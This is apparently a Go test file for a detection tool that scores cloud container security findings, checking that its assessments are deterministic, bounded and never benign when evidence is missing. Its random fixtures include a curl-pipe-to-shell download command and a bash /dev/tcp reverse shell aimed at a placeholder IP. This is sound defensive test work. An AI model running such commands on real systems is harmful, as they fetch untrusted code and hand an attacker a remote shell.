package assess

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"testing"
	"time"

	"cel.dev/cel-go/common/types"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/scc-enricher/scc-enricher/pkg/attack"
	"github.com/scc-enricher/scc-enricher/pkg/command"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/incident"
)

// randomInput makes a finding with evidence of every kind out of a seed.
func randomInput(r *rand.Rand) Input {
	pick := func(list ...string) string { return list[r.IntN(len(list))] }
	f := childShell(pick("java", "node", "tini", "sh", "myapp"), [][]string{
		{"sh", "-c", "./docker-entrypoint.sh"}, {"sh"}, {"sh", "-i"}, {"sh", "-c", "curl http://203.0.113.9/x | sh"},
		{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, {"sh", "-c", "id; uname -a"}, {"sh", "-c", "npm start"}, nil,
	}[r.IntN(8)]...)
	f.Category = pick("Unexpected Child Shell", "Reverse Shell", "Execution: Added Malicious Binary Executed",
		"Defense Evasion: Launch Code Compiler Tool In Container", "Something New", "Impact: Cryptomining Commands", "")
	f.Severity = finding.Severity(pick("CRITICAL", "HIGH", "MEDIUM", "LOW", ""))
	if r.IntN(5) == 0 {
		f.Processes = nil
	}
	f.Containers[0].CreateTime = event().Add(-time.Duration(r.IntN(1000)) * time.Second)
	f.Workload.Kind = finding.Kind(pick("service", "job", "worker_pool"))
	e := complete()
	state := func() evidence.Status {
		return evidence.Status{State: evidence.State(pick("ok", "ok", "ok", "empty", "partial", "quota", "denied", "timeout", "error", "disabled"))}
	}
	e.FindingsState, e.ConfigState, e.LogsState, e.VTState = state(), state(), state(), state()
	e.Logs.Visible = e.LogsState.State == evidence.OK || e.LogsState.State == evidence.Partial // as the reader does
	e.Config.AllUsers, e.Config.DefaultServiceAccount = r.IntN(2) == 0, r.IntN(2) == 0
	if r.IntN(4) == 0 {
		e.Config = nil
	}
	if r.IntN(3) == 0 {
		deployed(e, pick("alice@example.com", "mallory@example.com", ""), r.IntN(30))
	}
	for _, text := range []string{"uid=0(root) gid=0(root) groups=0(root)", "error: boom"} {
		if r.IntN(3) == 0 {
			e.Logs.Entries = append(e.Logs.Entries, evidence.LogEntry{Kind: evidence.LogApp, Time: event(), Text: text, Severity: "ERROR"})
		}
	}
	e.Reputations[0].Verdict = evidence.Verdict(pick("malicious", "suspicious", "clean", "not_found"))
	e.Reputations[0].Malicious = r.IntN(60)
	for i := range r.IntN(4) {
		e.Reputations = append(e.Reputations, evidence.Reputation{
			Artifact:  evidence.Artifact{Kind: pick("ip", "domain", "url"), Value: fmt.Sprintf("45.9.148.%d", i), Role: evidence.RoleArgument},
			State:     evidence.State(pick("ok", "ok", "empty", "quota", "not_applicable")),
			Verdict:   evidence.Verdict(pick("malicious", "suspicious", "clean", "not_found")),
			Malicious: r.IntN(30), Engines: 94,
		})
	}
	var others []*finding.Finding
	for range r.IntN(4) {
		others = append(others, other(pick("Reverse Shell", "Unexpected Child Shell", "Malicious URL Observed", "Credential Access: Find Google Cloud Credentials")))
	}
	return input(f, e, others...)
}

func compare(t *testing.T, what string, want, got Assessment) {
	t.Helper()
	if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("%s (-want +got):\n%s", what, diff)
	}
}

func TestAssessProperties(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	p2 := mustDefault(t)
	slices.Reverse(p2.rules)
	for seed := range uint64(150) {
		r := rand.New(rand.NewPCG(seed, 1))
		in := randomInput(r)
		a := p.Assess(in)
		t.Run(fmt.Sprint(seed), func(t *testing.T) {
			compare(t, "the same input gives another assessment", a, p.Assess(in))
			compare(t, "the order of rules matters", a, p2.Assess(in))
			shuffled := in
			shuffled.Incident.Members = slices.Clone(in.Incident.Members)
			r.Shuffle(len(shuffled.Incident.Members), func(i, j int) {
				m := shuffled.Incident.Members
				m[i], m[j] = m[j], m[i]
			})
			compare(t, "the order of related findings matters", a, p.Assess(shuffled))
			checkBounds(t, p, a)
			checkSilence(t, p, in, a)
			checkCompany(t, p, in, a)
		})
	}
}

// checkBounds holds what every assessment promises.
func checkBounds(t *testing.T, p *Policy, a Assessment) {
	t.Helper()
	if a.Score < 0 || a.Score > 100 || a.OwnScore < 0 || a.OwnScore > 100 {
		t.Errorf("score %d, own score %d", a.Score, a.OwnScore)
	}
	sum, up := 0, map[string]int{}
	for i, r := range a.Reasons {
		sum += r.Points
		if r.Points > 0 {
			up[r.Source] += r.Points
		}
		if i > 0 && magnitude(a.Reasons[i-1].Points) < magnitude(r.Points) {
			t.Errorf("reasons are not strongest first: %s", explain(a))
		}
		if len(r.Evidence) > maxEvidence || r.Evidence == "" {
			t.Errorf("reason %s has evidence of %d bytes", r.ID, len(r.Evidence))
		}
	}
	own := 0
	for _, r := range a.Reasons {
		if !r.Incident {
			own += r.Points
		}
	}
	if clamp(own) != a.OwnScore || clamp(a.OwnScore+sum-own) != a.Score {
		t.Errorf("the points sum up to %d of %d, score is %d of %d: %s", own, sum, a.OwnScore, a.Score, explain(a))
	}
	for src, n := range up {
		if n > p.caps[src].max {
			t.Errorf("source %s adds %d, its cap is %d", src, n, p.caps[src].max)
		}
	}
	if len(a.Summary) > maxSummary || len(a.Indicators) > maxIndicators || len(a.Unchecked) > maxUnchecked {
		t.Errorf("too long: summary %d, indicators %d, unchecked %d", len(a.Summary), len(a.Indicators), len(a.Unchecked))
	}
	if !slices.Equal(attack.SortTactics(a.Tactics), a.Tactics) {
		t.Errorf("tactics are not in order of the kill chain: %v", a.Tactics)
	}
	for _, risk := range a.ConfigRisks {
		if !slices.Contains(ConfigRisks(), risk) {
			t.Errorf("risk %s is not in the closed set", risk)
		}
	}
}

// checkSilence takes each source's answer away: never may silence lead to a
// benign verdict, nor a benign one rest on it.
func checkSilence(t *testing.T, p *Policy, in Input, a Assessment) {
	t.Helper()
	if a.Verdict == LikelyBenign {
		for _, st := range []evidence.Status{in.Evidence.FindingsState, in.Evidence.ConfigState, in.Evidence.LogsState} {
			if !answered(st.State) {
				t.Errorf("likely benign while a source is %s: %s", st.State, explain(a))
			}
		}
	}
	for _, state := range []evidence.State{evidence.Quota, evidence.Timeout, evidence.Error, evidence.Denied, evidence.Partial} {
		silence := map[string]func(*evidence.Evidence){
			"findings": func(e *evidence.Evidence) { e.FindingsState = evidence.Status{State: state} },
			"logs":     func(e *evidence.Evidence) { e.LogsState, e.Logs = evidence.Status{State: state}, evidence.Logs{} },
			"config":   func(e *evidence.Evidence) { e.ConfigState, e.Config = evidence.Status{State: state}, nil },
			"vt":       func(e *evidence.Evidence) { e.VTState, e.Reputations = evidence.Status{State: state}, nil },
		}
		for name, apply := range silence {
			e := *in.Evidence
			apply(&e)
			less := in
			less.Evidence = &e
			got := p.Assess(less)
			if got.Verdict == LikelyBenign {
				t.Errorf("without %s (%s) the verdict is likely_benign, with it %s: %s", name, state, a.Verdict, explain(got))
			}
			if len(got.Unchecked) == 0 {
				t.Errorf("without %s (%s) nothing is unchecked", name, state)
			}
		}
	}
}

// checkCompany adds a grave finding to the incident: the score never falls.
func checkCompany(t *testing.T, p *Policy, in Input, a Assessment) {
	t.Helper()
	more := in
	more.Incident.Members = append(slices.Clone(in.Incident.Members), incident.Member{Finding: other("Impact: Detect Malicious Cmdlines")})
	got := p.Assess(more)
	if got.Score < a.Score {
		t.Errorf("with a grave finding more the score falls from %d to %d", a.Score, got.Score)
	}
	if got.OwnScore != a.OwnScore {
		t.Errorf("with a finding more the own score changes from %d to %d", a.OwnScore, got.OwnScore)
	}
	if rank(got.Verdict) < rank(a.Verdict) {
		t.Errorf("with a grave finding more the verdict falls from %s to %s", a.Verdict, got.Verdict)
	}
	if got.Verdict == LikelyBenign {
		t.Errorf("likely benign next to a grave finding: %s", explain(got))
	}
}

// TestEveryRuleFires holds that no rule of the default policy is dead: the
// facts of some test or scenario make it fire.
func TestEveryRuleFires(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	seen := map[string]bool{}
	for _, b := range command.All() {
		f := newFacts(p.lang.index, p.lang.zeros)
		f.list("command.behaviors", []string{string(b)})
		f.text("command.line", "x")
		p.complete(f, map[string]bool{"command.behaviors": true})
		hits, failed := p.both(f)
		if len(failed) > 0 {
			t.Errorf("%s: rules %v could not be evaluated", b, failed)
		}
		for _, h := range hits {
			seen[h.rule.id] = true
		}
		// A weak behaviour may weigh more in one occurrence.
		f.list("command.suspicious", []string{string(b)})
		hits, _ = p.both(f)
		for _, h := range hits {
			seen[h.rule.id] = true
		}
	}
	for _, tt := range p.tests {
		f := newFacts(p.lang.index, p.lang.zeros)
		given := map[string]bool{}
		for _, a := range tt.given {
			a.set(f)
			given[a.name] = true
		}
		p.complete(f, given)
		hits, _ := p.both(f)
		for _, h := range hits {
			seen[h.rule.id] = true
		}
	}
	for _, set := range oneFact() {
		f := newFacts(p.lang.index, p.lang.zeros)
		set(f)
		hits, failed := p.both(f)
		if len(failed) > 0 {
			t.Errorf("rules %v could not be evaluated", failed)
		}
		for _, h := range hits {
			seen[h.rule.id] = true
		}
	}
	for i := range p.rules {
		if !seen[p.rules[i].id] {
			t.Errorf("rule %s fires in no test", p.rules[i].id)
		}
	}
}

// both fires the rules of both scopes.
func (p *Policy) both(f *facts) (hits []fired, failed []string) {
	hits, failed = p.fire(f, false)
	more, broken := p.fire(f, true)
	return append(hits, more...), append(failed, broken...)
}

// oneFact sets what the policy's own tests do not.
func oneFact() []func(*facts) {
	return []func(*facts){
		func(f *facts) { f.text("finding.severity", "LOW") },
		func(f *facts) { f.text("finding.bad_url", "http://203.0.113.9/x") },
		func(f *facts) { f.bool("process.fileless", true) },
		func(f *facts) { f.bool("process.temporary_path", true) },
		func(f *facts) { f.bool("process.root", true) },
		func(f *facts) { f.bool("command.explained", true); f.int("finding.container_age_seconds", 3) },
		func(f *facts) { f.bool("command.explained", true); f.bool("process.parent_is_init", true) },
		func(f *facts) { f.text("virustotal.verdict", "suspicious") },
		func(f *facts) { f.text("virustotal.indicator", "203.0.113.9") },
		func(f *facts) { f.text("virustotal.suspicious_indicator", "203[.]0[.]113[.]9") },
		func(f *facts) { f.text("virustotal.binary", "clean"); f.text("virustotal.verdict", "clean") },
		func(f *facts) { f.text("virustotal.binary", "not_found"); f.bool("process.temporary_path", true) },
		func(f *facts) { f.bool("config.default_service_account", true); f.int("config.secrets", 1) },
		func(f *facts) { f.list("config.risks", []string{RiskBreakglass}) },
		func(f *facts) { f.bool("command.matches_probe", true) },
		func(f *facts) {
			f.bool("config.overridden_args", true)
			f.bool("config.run_by_person", true)
			f.bool("command.matches_config", true)
		},
		func(f *facts) {
			f.counts("logs.signals", map[string]int{"shell_output": 1, "tool_output": 1, "upload": 1, "indicator_seen": 1, "iam_change": 1})
			f.int("deploy.minutes", 20)
		},
		func(f *facts) { f.list("incident.tactics", []string{"TA0010", "TA0040"}) },
	}
}

// TestFactsSet holds that what Assess derives stays inside the declared
// vocabulary: every name used in a set call is declared.
func TestFactsSet(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	in := input(childShell("java", "sh", "-c", "curl http://203.0.113.9/x | sh"), deployed(complete(), "mallory@example.com", 3), other("Reverse Shell"))
	f := p.facts(newSubject(in))
	for i, v := range f.vals {
		if v == nil {
			t.Errorf("variable %s has no value", declarations()[i].name)
		}
	}
	for name, want := range map[string]string{
		"process.child": "sh", "process.parent": "java", "config.exposure": "public", "deploy.by": "mallory@example.com",
		"severity": "CRITICAL", "virustotal.verdict": "clean", "finding.category_key": "unexpected child shell",
	} {
		if got := f.getText(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if got := f.get("deploy.minutes"); got != types.Int(3) {
		t.Errorf("deploy.minutes = %v, want 3", got)
	}
}
